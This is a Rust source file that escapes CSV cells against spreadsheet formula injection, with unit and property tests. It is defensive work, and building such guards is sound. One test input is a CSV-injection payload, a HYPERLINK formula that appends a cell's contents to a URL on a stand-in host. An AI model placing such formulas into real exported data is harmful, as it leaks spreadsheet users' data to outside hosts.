//! CSV cells for people's spreadsheets: every CSV pramaan writes (the
//! console's search download, `records.csv` in evidence bundles, `pramaan
//! search --format csv`) goes through [`cell`] or [`row`], so a log line
//! cannot become a formula when the file is opened.
//!
//! A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage
//! return is read by Excel, LibreOffice and Google Sheets as a formula
//! (`=HYPERLINK(...)`, `@SUM(...)`, `+1`, `-2`). Such a cell gets a `'` in
//! front (OWASP's advice for CSV injection), which those programs show as
//! text. CSV is a *view* for reading: the exact bytes of each line stay in
//! NDJSON (`raw`, `raw_b64`) and in the raw downloads, which are never
//! changed.
//!
//! A cell is quoted (RFC 4180, `"` doubled) when it holds a comma, a
//! semicolon or a tab (the separators a spreadsheet may guess), a quote or a
//! line break, or when it was neutralised.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula when they come first.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a spreadsheet shows it as text: with `'` in front when it
/// starts with one of [`FORMULA_STARTS`], else unchanged.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// One CSV cell: [`neutralise`]d, then quoted when needed.
pub fn cell(text: &str) -> Cow<'_, str> {
    let t = neutralise(text);
    let changed = matches!(t, Cow::Owned(_));
    if changed || t.contains([',', ';', '\t', '"', '\n', '\r']) {
        Cow::Owned(format!("\"{}\"", t.replace('"', "\"\"")))
    } else {
        t
    }
}

/// One CSV line: the cells joined by commas, ending in `\n`.
pub fn row<I, S>(cells: I) -> String
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let mut out = String::new();
    for (i, c) in cells.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&cell(c.as_ref()));
    }
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        assert_eq!(
            cell(r#"=HYPERLINK("http://x.example/?"&A1,"click")"#),
            r#""'=HYPERLINK(""http://x.example/?""&A1,""click"")""#
        );
        assert_eq!(cell("+1"), "\"'+1\"");
        assert_eq!(cell("-2"), "\"'-2\"");
        assert_eq!(cell("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
        assert_eq!(cell("\tx"), "\"'\tx\"");
        assert_eq!(cell("\rx"), "\"'\rx\"");
    }

    #[test]
    fn plain_text_is_unchanged_and_separators_are_quoted() {
        assert_eq!(cell("fw1"), "fw1");
        assert_eq!(cell("2026-03-03T08:32:11Z"), "2026-03-03T08:32:11Z");
        assert_eq!(
            cell("a=b"),
            "a=b",
            "only a formula's first character counts"
        );
        assert_eq!(cell(""), "");
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("a;=1+1"), "\"a;=1+1\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn a_row_ends_in_a_newline() {
        assert_eq!(row(["1", "=1+1", "x,y"]), "1,\"'=1+1\",\"x,y\"\n");
        assert_eq!(row(Vec::<String>::new()), "\n");
    }

    proptest::proptest! {
        /// Read back as RFC 4180, every cell is the text itself, or `'` and the text when it
        /// started like a formula; and no cell a reader sees starts like a formula.
        #[test]
        fn a_cell_reads_back_as_its_text(s in "\\PC{0,40}|[=+@\\-\t\r][ -~]{0,10}") {
            let c = cell(&s);
            let read = match c.strip_prefix('"').and_then(|x| x.strip_suffix('"')) {
                Some(inner) => inner.replace("\"\"", "\""),
                None => c.to_string(),
            };
            if s.starts_with(FORMULA_STARTS) {
                proptest::prop_assert_eq!(read, format!("'{s}"));
            } else {
                proptest::prop_assert!(!read.starts_with(FORMULA_STARTS));
                proptest::prop_assert_eq!(read, s);
            }
        }
    }
}
